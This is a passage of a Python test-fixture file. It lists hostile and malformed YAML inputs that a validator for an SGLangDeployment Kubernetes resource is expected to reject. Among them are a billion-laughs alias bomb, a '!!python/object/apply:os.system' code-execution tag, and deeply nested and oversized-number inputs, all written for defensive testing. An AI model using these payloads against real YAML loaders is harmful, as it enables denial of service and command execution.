            "spec.template.spec.nodeSelector.pool", "may not be more than 63 characters", SCHEMA,
            "a pod the API server refuses, every pass"),
    Hostile("sidecars-20", cr(_template({"containers": [{"name": f"s{i}", "image": "busybox"} for i in range(20)]})),
            "spec.template.spec.containers", "must have at most 8 items", SCHEMA, "twenty sidecars per pod"),
    Hostile("sidecar-command-1000", cr(_sidecar(command=["x"] * 1000)),
            "spec.template.spec.containers[0].command", "must have at most 64 items", SCHEMA,
            "an unbounded argv"),
    Hostile("sidecar-env-value-100k", cr(_sidecar(env=[{"name": "A", "value": "x" * 100_000}])),
            "spec.template.spec.containers[0].env[0].value", "may not be more than 32768 characters", SCHEMA,
            "100 kB per variable"),
    Hostile("sidecar-working-dir-relative", cr(_sidecar(workingDir="tmp")),
            "spec.template.spec.containers[0].workingDir", "should match", SCHEMA, "a pod the API server refuses"),
    Hostile("sidecar-port-zero", cr(_sidecar(ports=[{"containerPort": 0}])),
            "spec.template.spec.containers[0].ports[0].containerPort", "greater than or equal to 1", SCHEMA,
            "a pod the API server refuses"),
    Hostile("cache-mount-relative", cr({"model": {"cache": {"mountPath": "cache"}}}), "spec.model.cache.mountPath",
            "should match", SCHEMA, "a pod the API server refuses"),
    Hostile("cache-claim-invalid",
            cr({"model": {"cache": {"type": "persistentVolumeClaim", "claimName": "Other_PVC"}}}),
            "spec.model.cache.claimName", "should match", SCHEMA, "no valid PVC name"),
    Hostile("image-pull-secret-invalid", cr(_template({"imagePullSecrets": [{"name": "A B"}]})),
            "spec.template.spec.imagePullSecrets[0].name", "should match", SCHEMA, "no valid Secret name"),
    Hostile("priority-class-invalid", cr(_template({"priorityClassName": "Sys Critical"})),
            "spec.template.spec.priorityClassName", "should match", SCHEMA, "no valid class name"),
    Hostile("toleration-seconds-huge",
            cr(_template({"tolerations": [{"operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 2**62}]})),
            "spec.template.spec.tolerations[0].tolerationSeconds", "less than or equal to 31536000", SCHEMA,
            "a pod that outlives its node's eviction for ever"),
    Hostile("volume-name-invalid", cr(_template({"volumes": [{"name": "Bad_Name", "emptyDir": {}}]})),
            "spec.template.spec.volumes[0].name", "should match", SCHEMA, "a pod the API server refuses"),
    Hostile("secret-volume-mode-huge",
            cr(_template({"volumes": [{"name": "s", "secret": {"secretName": "s", "defaultMode": 4095}}]})),
            "spec.template.spec.volumes[0].secret.defaultMode", "less than or equal to 511", SCHEMA,
            "setuid bits on mounted files"),
    # --- typos and unknown fields: refused by validate with a did-you-mean ---
    Hostile("typo-replica", cr({"replica": 3}), "spec.replica", "did you mean replicas?", UNKNOWN,
            "one replica instead of three, silently"),
    Hostile("typo-modle", cr({"modle": {"path": "x"}}), "spec.modle", "did you mean model?", UNKNOWN,
            "a field silently ignored"),
    Hostile("typo-autoscaling-max", cr({"autoscaling": {"maxReplica": 5}}), "spec.autoscaling.maxReplica",
            "did you mean maxReplicas?", UNKNOWN, "the default 10 instead of 5, silently"),
    Hostile("typo-in-list-item", cr({"engine": {"env": [{"name": "A", "valeu": "x"}]}}),
            "spec.engine.env[0].valeu", "did you mean value?", UNKNOWN, "an empty variable, silently"),
]
# fmt: on


@dataclass(frozen=True)
class Malformed:
    id: str
    data: bytes
    fragment: str
    why: str


def _doc(spec_text: str) -> bytes:
    return f"apiVersion: {API_VERSION}\nkind: {KIND}\nmetadata: {{name: {NAME}}}\nspec: {spec_text}\n".encode()


_LAUGHS = (
    f"apiVersion: {API_VERSION}\nkind: {KIND}\nmetadata: {{name: {NAME}}}\n"
    + "a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10))
    + "spec: {model: {path: m}, engine: {args: *a9}}\n"
).encode()

# fmt: off
MALFORMED: list[Malformed] = [
    Malformed("non-utf8", _doc("{model: {path: \xff\xfe}}").replace(b"\xc3\xbf\xc3\xbe", b"\xff\xfe"),
              "not UTF-8 text: byte 0xff at line 4", "a traceback (issue 16)"),
    Malformed("latin1", _doc("{model: {path: café}}").replace("é".encode(), b"\xe9"), "not UTF-8 text",
              "a file saved in Latin-1"),
    Malformed("utf16", _doc("{model: {path: m}}").decode().encode("utf-16"), "not UTF-8 text",
              "a file saved as UTF-16"),
    Malformed("nul-byte", _doc("{model: {path: m}}") + b"\x00", "invalid YAML",
              "a NUL byte (YAML forbids it)"),
    Malformed("control-char", _doc("{model: {path: \"m\x1b[2J\"}}"), "invalid YAML",
              "a raw escape character (YAML forbids it)"),
    Malformed("surrogate-escape", _doc('{model: {path: "\\ud800"}}'), "invalid YAML",
              "a lone surrogate: a traceback when printed (issue 16)"),
    Malformed("surrogate-pair-halves", _doc('{model: {path: "\\udc80\\ud800"}}'), "invalid YAML",
              "surrogates in the wrong order"),
    Malformed("deep-flow-20k", _doc("[" * 20_000 + "]" * 20_000), "nest",
              "RecursionError in the composer (issue 16)"),
    Malformed("deep-flow-200", _doc("[" * 200 + "]" * 200), "nested deeper than 64 levels",
              "deeper than any CR field"),
    Malformed("deep-block-200", _doc("\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 200)) + "  " * 200 + "x"),
              "nested deeper than 64 levels", "the same in block style"),
    Malformed("deep-maps-flow", _doc("{a: " * 100 + "1" + "}" * 100), "nested deeper than 64 levels",
              "nested maps"),
    Malformed("billion-laughs", _LAUGHS, "YAML anchors and aliases", "10**9 strings: a hang and gigabytes (issue 16)"),
    Malformed("one-alias", _doc("{model: &m {path: m}, x: *m}"), "YAML anchors and aliases",
              "an alias, harmless here but never needed"),
    Malformed("merge-key", _doc("{model: {path: m}, x: &b {replicas: 3}, <<: *b}"),
              "YAML anchors and aliases", "a merge key"),
    Malformed("too-big", _doc("{model: {path: m}}") + b"#" * (1 << 20), "larger than 1048576 bytes",
              "a file of more than 1 MiB"),
    Malformed("too-many-values", _doc("{model: {path: m}, engine: {args: [" + ", ".join(["a"] * 20_000) + "]}}"),
              "more than 10000 values", "seconds of Python per file"),
    Malformed("huge-integer", _doc("{model: {path: m}, replicas: " + "9" * 5000 + "}"),
              "a number of 5000 characters", "int() beyond Python's digit limit: a ValueError"),
    Malformed("huge-sexagesimal", _doc("{model: {path: m}, replicas: 1" + ":59" * 2000 + "}"),
              "a number of 6001 characters", "YAML 1.1 base 60: quadratic arithmetic"),
    Malformed("duplicate-key", _doc("{model: {path: m}, replicas: 1, replicas: 100000}"),
              "the key 'replicas' appears twice", "one value shown, another applied"),
    Malformed("binary-tag", _doc("{model: {path: !!binary bQ==}}"), "the YAML tag 'tag:yaml.org,2002:binary'",
              "bytes where text goes"),
    Malformed("python-tag", _doc("{model: {path: !!python/object/apply:os.system [id]}}"), "the YAML tag",
              "code execution in an unsafe loader"),
    Malformed("set-tag", _doc("{model: {path: m}, engine: {args: !!set {a, b}}}"), "the YAML tag",
              "a set, no JSON value"),
    Malformed("complex-key", _doc("{model: {path: m}, [a, b]: 1}"), "a map key must be a plain string",
              "a list as a key"),
    Malformed("two-documents", _doc("{model: {path: m}}") + b"---\n" + _doc("{model: {path: n}}"),
              "expected exactly one SGLangDeployment object, found 2 documents", "which one is applied?"),
    Malformed("empty-file", b"", "found 0 documents", "nothing"),
    Malformed("a-list", b"- 1\n- 2\n", "found a list", "a list, no object"),
    Malformed("a-scalar", b"just text\n", "found a str", "a string, no object"),
    Malformed("wrong-kind", b"apiVersion: v1\nkind: Pod\nmetadata: {name: x}\n", "expected kind SGLangDeployment",
              "another kind"),
    Malformed("unclosed", _doc("{model: {path: m}"), "invalid YAML", "a syntax error"),
    Malformed("tab-indent", b"apiVersion: sglang.ai/v1alpha1\nkind: SGLangDeployment\nspec:\n\tmodel: {path: m}\n",
              "invalid YAML", "a tab where YAML wants spaces"),
]
# fmt: on
